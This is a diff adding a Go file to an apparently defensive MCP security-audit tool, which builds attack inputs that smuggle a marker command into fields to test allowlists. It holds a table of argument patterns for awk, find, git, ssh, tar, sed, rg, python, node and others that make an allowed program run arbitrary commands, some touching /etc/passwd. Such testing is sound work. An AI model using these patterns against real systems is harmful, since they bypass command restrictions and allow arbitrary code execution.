@@ -1,0 +1,74 @@
+package attack
+
+import (
+	"path"
+	"regexp"
+	"slices"
+	"strings"
+
+	"github.com/mcpaudit/mcpaudit/runner/inputs"
+)
+
+// runners are arguments that make a program run another one: "!" stands for it. A list of
+// allowed programs that has one of them allows all.
+var runners = map[string]string{
+	"awk":     `awk 'BEGIN{system("!")}'`,
+	"bash":    `bash -c '!'`,
+	"env":     `env !`,
+	"find":    `find . -maxdepth 0 -exec ! {} +`,
+	"gawk":    `gawk 'BEGIN{system("!")}'`,
+	"git":     `git -c 'alias.mcpaudit=!!' mcpaudit`,
+	"make":    `make --eval '$(shell !)'`,
+	"man":     `man -P ! sh`,
+	"nice":    `nice !`,
+	"node":    `node -e 'require("child_process").execFileSync("!")'`,
+	"nohup":   `nohup !`,
+	"npm":     `npm exec -c !`,
+	"npx":     `npx -c !`,
+	"perl":    `perl -e 'exec "!"'`,
+	"python":  `python -c 'import os;os.system("!")'`,
+	"python3": `python3 -c 'import os;os.system("!")'`,
+	"rg":      `rg --pre ! x /etc/passwd`,
+	"rsync":   `rsync -e ! mcpaudit:x .`,
+	"sed":     `sed '1e !' /etc/passwd`,
+	"sh":      `sh -c '!'`,
+	"ssh":     `ssh -o ProxyCommand=! mcpaudit`,
+	"tar":     `tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=!`,
+	"time":    `time !`,
+	"timeout": `timeout 1 !`,
+	"xargs":   `xargs !`,
+}
+
+// maxRunners is how many of them are tried at one place.
+const maxRunners = 8
+
+var word = regexp.MustCompile(`[\w.-]+`)
+
+// runnerSteps are the attempts to have allowed programs run another one, at the places that
+// take a command: those that the honest value starts, and those that a text names.
+func runnerSteps(fields []field, text string) (all []step) {
+	for _, field := range fields {
+		first, _, _ := strings.Cut(strings.TrimSpace(field.core()), " ")
+		if _, known := runners[path.Base(first)]; !field.text || !known && !inputs.Commands(field.name) {
+			continue
+		}
+		var tried []string
+		for _, name := range append([]string{path.Base(first)}, word.FindAllString(text, maxWords)...) {
+			if pattern, known := runners[name]; known && !slices.Contains(tried, name) && len(tried) < maxRunners {
+				tried = append(tried, name)
+				all = append(all, step{family: Command, form: runner(name, pattern), field: field})
+			}
+		}
+	}
+	return all
+}
+
+// maxWords is how many words of a text are looked at for the names of programs.
+const maxWords = 1024
+
+// runner is a form by its pattern. A doubled "!" is one, and the program.
+func runner(name, pattern string) form {
+	return form{name: "as an argument of " + name, write: func(f field, m inputs.Mark, _ int) string {
+		return f.before + strings.NewReplacer("!!", "!"+m.Command(), "!", m.Command()).Replace(pattern) + f.behind
+	}}
+}
